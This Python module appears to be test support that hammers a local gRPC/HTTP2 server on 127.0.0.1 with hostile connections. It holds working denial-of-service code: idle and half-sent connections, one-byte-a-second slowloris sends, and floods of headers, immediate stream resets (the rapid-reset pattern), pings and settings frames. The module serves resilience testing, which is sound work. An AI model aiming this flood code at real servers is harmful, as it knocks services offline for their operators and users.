"""A thousand hostile connections: those that stall, those that send halves, those that flood.

Raw sockets that speak just enough HTTP/2. Run as a program it is a process of its own, so that the
attacker's work isn't done by who measures: `python support_flood.py PORT CONNECTIONS`.
"""

import asyncio
import json
import os
import random
import struct
import sys
from collections import Counter
from collections.abc import Callable, Coroutine
from typing import Any, Final

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE = 0, 1, 3, 4, 6, 8
END_STREAM, END_HEADERS, ACK = 1, 4, 1
PATHS: Final = (
    "/opolyx.engine.v1.EngineService/GetGame",
    "/opolyx.engine.v1.EngineService/Play",
    "/grpc.health.v1.Health/Watch",
    "/nothing.v1.Here/Nothing",
)
_PAUSE_S: Final = 0.2  # between bursts of one connection: 250 of them send 25,000 frames a second
_BURST: Final = 20
_AGAIN_S: Final = 1.0  # after a connection was closed


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """An HTTP/2 frame."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def headers(path: str, **more: str) -> bytes:
    """The header block of a gRPC call, all of it literal (HPACK without a table)."""
    fields = {
        ":method": "POST",
        ":scheme": "http",
        ":path": path,
        ":authority": "here",
        "content-type": "application/grpc",
        "te": "trailers",
        **more,
    }
    return b"".join(b"\x00" + _text(name) + _text(value) for name, value in fields.items())


def _text(text: str) -> bytes:
    data = text.encode()
    if len(data) < 127:
        return bytes([len(data)]) + data
    rest, length = len(data) - 127, b"\x7f"
    while rest >= 128:
        length += bytes([rest % 128 + 128])
        rest //= 128
    return length + bytes([rest]) + data


Talk = Callable[[asyncio.StreamWriter, random.Random], Coroutine[Any, Any, None]]


async def say_nothing(writer: asyncio.StreamWriter, luck: random.Random) -> None:
    """Open, and wait."""
    await asyncio.Event().wait()


async def say_half(writer: asyncio.StreamWriter, luck: random.Random) -> None:
    """A part of a preface, of a frame's head, of headers, or a call without its message."""
    call = frame(HEADERS, END_HEADERS, 1, headers(luck.choice(PATHS)))
    whole = PREFACE + frame(SETTINGS, 0, 0) + call + frame(DATA, 0, 1, b"\x00\x00\x00\x10\x00abc")
    writer.write(whole[: luck.randrange(1, len(whole))])
    await writer.drain()
    await asyncio.Event().wait()


async def say_byte_by_byte(writer: asyncio.StreamWriter, luck: random.Random) -> None:
    """A call, one byte a second."""
    call = PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_HEADERS, 1, headers(PATHS[0]))
    for byte in call:
        writer.write(bytes([byte]))
        await writer.drain()
        await asyncio.sleep(1)


async def flood(writer: asyncio.StreamWriter, luck: random.Random) -> None:
    """Calls without a token, calls that are reset at once, pings, settings, windows."""
    writer.write(PREFACE + frame(SETTINGS, 0, 0))
    stream, kind = 1, luck.randrange(4)
    while True:
        burst = b""
        for _ in range(_BURST):
            if kind == 0:
                burst += frame(
                    HEADERS, END_HEADERS | END_STREAM, stream, headers(luck.choice(PATHS))
                )
            elif kind == 1:
                burst += frame(HEADERS, END_HEADERS, stream, headers(luck.choice(PATHS)))
                burst += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
            elif kind == 2:
                burst += frame(PING, 0, 0, luck.randbytes(8))
            else:
                burst += frame(SETTINGS, 0, 0) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))
            stream += 2
        writer.write(burst)
        await writer.drain()
        await asyncio.sleep(_PAUSE_S)


TALKS: Final[tuple[Talk, ...]] = (say_nothing, say_half, say_byte_by_byte, flood)
"""What connections do, in turn."""


class Flood:
    """So many connections, opened anew whenever the server closes one."""

    def __init__(self, port: int, connections: int, talks: tuple[Talk, ...] = TALKS) -> None:
        """Attack a port of this machine."""
        self._port = port
        self._connections = connections
        self._talks = talks
        self.counts: Counter[str] = Counter()
        """Connections opened, closed by the server, and bytes read."""

    async def run(self) -> None:
        """Attack until cancelled."""
        async with asyncio.TaskGroup() as group:
            for number in range(self._connections):
                group.create_task(self._connection(number))

    async def _connection(self, number: int) -> None:
        talk, luck = self._talks[number % len(self._talks)], random.Random(number)
        await asyncio.sleep(luck.random())
        while True:
            try:
                async with asyncio.timeout(10):
                    reader, writer = await asyncio.open_connection("127.0.0.1", self._port)
            except (OSError, TimeoutError):
                self.counts["refused"] += 1
                await asyncio.sleep(_AGAIN_S)
                continue
            self.counts["opened"] += 1
            self.counts["open"] += 1
            talking = asyncio.create_task(talk(writer, luck))
            try:
                while data := await reader.read(65_536):
                    self.counts["bytes"] += len(data)
            except OSError:
                pass
            finally:
                talking.cancel()
                await asyncio.gather(talking, return_exceptions=True)
                writer.close()
                self.counts["open"] -= 1
            self.counts["closed"] += 1
            await asyncio.sleep(_AGAIN_S)


class FloodProcess:
    """A flood as a child that gives way to everybody else. Use as a context."""

    def __init__(self, port: int, connections: int) -> None:
        """Attack a port of this machine."""
        self._arguments = (str(port), str(connections))
        self._child: asyncio.subprocess.Process | None = None

    async def counts(self) -> dict[str, int]:
        """What it did so far."""
        assert self._child is not None
        assert self._child.stdin is not None
        assert self._child.stdout is not None
        self._child.stdin.write(b"look\n")
        line = await asyncio.wait_for(self._child.stdout.readline(), 90)
        found: dict[str, int] = json.loads(line)
        return found

    async def __aenter__(self) -> "FloodProcess":
        self._child = await asyncio.create_subprocess_exec(
            sys.executable,
            __file__,
            *self._arguments,
            stdin=asyncio.subprocess.PIPE,
            stdout=asyncio.subprocess.PIPE,
        )
        return self

    async def __aexit__(self, *_: object) -> None:
        assert self._child is not None
        self._child.kill()
        await self._child.wait()


async def _main(port: int, connections: int) -> None:
    os.nice(5)  # the attacker's machine is another one: this one's time is the server's first
    attack = Flood(port, connections)
    running = asyncio.create_task(attack.run())
    lines = asyncio.StreamReader()
    loop = asyncio.get_running_loop()
    await loop.connect_read_pipe(lambda: asyncio.StreamReaderProtocol(lines), sys.stdin)
    while await lines.readline():
        sys.stdout.write(json.dumps(attack.counts) + "\n")
        sys.stdout.flush()
    running.cancel()


if __name__ == "__main__":
    asyncio.run(_main(int(sys.argv[1]), int(sys.argv[2])))
